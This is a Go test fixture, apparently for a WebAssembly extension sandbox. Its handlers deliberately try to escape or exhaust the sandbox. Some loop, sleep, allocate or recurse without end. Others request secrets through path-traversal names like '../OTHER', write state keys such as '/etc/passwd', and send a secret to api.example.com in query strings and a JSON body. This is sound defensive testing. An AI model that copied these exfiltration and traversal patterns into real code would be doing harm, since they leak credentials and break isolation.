// Command escape is a well-formed extension whose handlers try to break out
// of the sandbox at run time, or to exhaust it. The sandbox tests build it
// for wasip1 and run each handler.
package main

import (
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/forgehq/forge/pkg/sdk"
)

func main() {}

//go:wasmexport forge_on_noop
func noop() int32 { return 0 }

// spin loops forever without calling the host.
//
//go:wasmexport forge_on_spin
func spin() int32 {
	x := 0
	for {
		x++
	}
}

// sleep blocks in a host call (poll_oneoff) far beyond any timeout.
//
//go:wasmexport forge_on_sleep
func sleep() int32 {
	time.Sleep(time.Hour)
	return 0
}

var hold [][]byte

// grow allocates until the memory limit stops it.
//
//go:wasmexport forge_on_grow
func grow() int32 {
	for {
		hold = append(hold, make([]byte, 1<<20))
	}
}

// recurse recurses without end.
//
//go:wasmexport forge_on_recurse
func recurse() int32 { return deep(0) + 1 }

func deep(n int) int32 {
	var pad [64]byte
	pad[n%64] = byte(n)
	return deep(n+1) + int32(pad[0])
}

// flood logs far more than the log limit, through forge.log and stdout.
//
//go:wasmexport forge_on_flood
func flood() int32 {
	line := strings.Repeat("x", 1000)
	for i := range 5000 {
		sdk.Log.Infof("%d %s", i, line)
		fmt.Println("stdout", i, line)
	}
	return sdk.Run(func(ctx *sdk.Context) error { return ctx.OutputText("flooded") })
}

// secrets asks for secrets of its own and of another namespace.
//
//go:wasmexport forge_on_secrets
func secrets() int32 {
	return sdk.Run(func(ctx *sdk.Context) error {
		out := map[string]string{}
		for _, name := range []string{"MINE", "OTHER", "other/OTHER", "../OTHER", "w2/s/e/OTHER"} {
			v, err := sdk.Secret(name)
			switch {
			case errors.Is(err, sdk.ErrNotFound):
				out[name] = "not_found"
			case err != nil:
				out[name] = err.Error()
			default:
				out[name] = "value:" + v
			}
		}
		return ctx.Output(out)
	})
}

// leak logs its secret, prints it to stdout, sends it in a URL (as written,
// URL-escaped in the query and the path) and in a JSON body, and writes it
// to its output in other encodings: the host must report none of them.
//
//go:wasmexport forge_on_leak
func leak() int32 {
	return sdk.Run(func(ctx *sdk.Context) error {
		v, err := sdk.Secret("MINE")
		if err != nil {
			return err
		}
		ctx.Logf("the secret is %s", v)
		fmt.Println("stdout:", v)
		_, _ = sdk.HTTP.Get("https://api.example.com/?key=" + v)
		if _, err := sdk.HTTP.Get("https://api.example.com/" + url.PathEscape(v) + "?token=" + url.QueryEscape(v)); err != nil {
			ctx.Logf("escaped: %v", err)
		}
		if _, err := sdk.HTTP.PostJSON("https://api.example.com/post", map[string]string{"token": v}); err != nil {
			ctx.Logf("json: %v", err)
		}
		ctx.Logf("hex %x base64 %s", v, base64.StdEncoding.EncodeToString([]byte("user:"+v)))
		return ctx.OutputText("escaped " + url.QueryEscape(v) + " " + base64.URLEncoding.EncodeToString([]byte(v)))
	})
}

// state writes keys that look like paths out of the namespace, then reads
// what it can see.
//
//go:wasmexport forge_on_state
func state() int32 {
	return sdk.Run(func(ctx *sdk.Context) error {
		for _, k := range []string{"../other/x", "../../w2/s/e/x", "/etc/passwd"} {
			if err := sdk.State.Put(k, []byte("escaped?")); err != nil {
				return err
			}
		}
		out := map[string]string{}
		for _, k := range []string{"x", "secret", "../other/x"} {
			v, err := sdk.State.Get(k)
			switch {
			case errors.Is(err, sdk.ErrNotFound):
				out[k] = "not_found"
			case err != nil:
				return err
			default:
				out[k] = string(v)
			}
		}
		keys, err := sdk.State.List("")
		if err != nil {
			return err
		}
		out["keys"] = strings.Join(keys, ",")
		return ctx.Output(out)
	})
}

var counter int

// counter counts its invocations in a global: it shows which invocations
// share an instance.
//
//go:wasmexport forge_on_counter
func count() int32 {
	counter++
	return sdk.Run(func(ctx *sdk.Context) error { return ctx.OutputText(strconv.Itoa(counter)) })
}

// cpu is a CPU-bound loop for the timeout enforcement benchmarks.
//
//go:wasmexport forge_on_cpu
func cpu() int32 {
	var h uint64 = 14695981039346656037
	for i := range 5_000_000 {
		h ^= uint64(i)
		h *= 1099511628211
	}
	if h == 42 {
		return 1
	}
	return 0
}

// http makes more requests than allowed.
//
//go:wasmexport forge_on_http
func httpMany() int32 {
	return sdk.Run(func(ctx *sdk.Context) error {
		var url string
		if err := ctx.Event(&url); err != nil {
			return err
		}
		for i := 0; ; i++ {
			if _, err := sdk.HTTP.Get(url); err != nil {
				return fmt.Errorf("call %d: %w", i+1, err)
			}
		}
	})
}

// exit calls os.Exit.
//
//go:wasmexport forge_on_exit
func exit() int32 {
	os.Exit(3)
	return 0
}

// fail returns a handler error.
//
//go:wasmexport forge_on_fail
func fail() int32 {
	return sdk.Run(func(*sdk.Context) error { return errors.New("something broke") })
}
